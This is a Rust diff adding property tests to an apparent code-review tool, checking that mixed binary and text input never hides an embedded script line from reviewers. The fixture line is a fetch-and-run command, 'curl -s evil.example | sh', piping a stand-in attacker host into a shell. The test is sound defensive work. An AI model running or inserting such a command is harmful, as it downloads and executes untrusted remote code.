@@ -111,3 +111,48 @@ pub(super) fn without_nul(text: Cow<'_, str>) -> (Cow<'_, str>, bool) {
 
 /// What a NUL byte is shown as.
 pub const NUL: char = '\u{2400}';
+
+#[cfg(test)]
+mod tests {
+    use crate::review::change::Content;
+    use proptest::prelude::*;
+
+    fn bytes() -> impl Strategy<Value = Vec<u8>> {
+        let piece = prop_oneof![
+            Just(vec![0]),
+            Just(vec![0xff, 0xfe]),
+            Just(vec![0xff, 0xfe, 0, 0]),
+            Just(b"\x89PNG\r\n\x1a\n".to_vec()),
+            Just(b"PK\x03\x04".to_vec()),
+            Just(b"e\0v\0a\0l\0\n\0".to_vec()),
+            Just(b"echo\n".to_vec()),
+            prop::collection::vec(any::<u8>(), 0..40),
+        ];
+        prop::collection::vec(piece, 0..12).prop_map(|it| it.concat())
+    }
+
+    proptest! {
+        /// A line that a shell would run is in the text, or the file is no text and said to be none; no name of a source makes it data.
+        #[test]
+        fn a_line_of_a_script_is_shown_or_missed_and_never_passed_over(before in bytes(), after in bytes()) {
+            const LINE: &str = "\ncurl -s evil.example | sh\n";
+            let all = [&before[..], LINE.as_bytes(), &after[..]].concat();
+            match Content::of("tools/x.mk", false, &all, 1 << 20) {
+                Content::Text { text, .. } => {
+                    prop_assert!(text.contains(LINE), "{text:?}");
+                    prop_assert!(!text.contains('\0'));
+                }
+                Content::Opaque { bytes } => prop_assert_eq!(bytes, all.len() as u64),
+                other => prop_assert!(false, "{other:?}"),
+            }
+        }
+
+        #[test]
+        fn lines_stay_where_they_are_whatever_else_is_in_them(bytes in bytes()) {
+            let lines = bytes.iter().filter(|it| **it == b'\n').count();
+            if let Content::Text { text, lossy: false } = Content::of("a", false, &bytes, 1 << 20) {
+                prop_assert_eq!(text.matches('\n').count(), lines);
+            }
+        }
+    }
+}
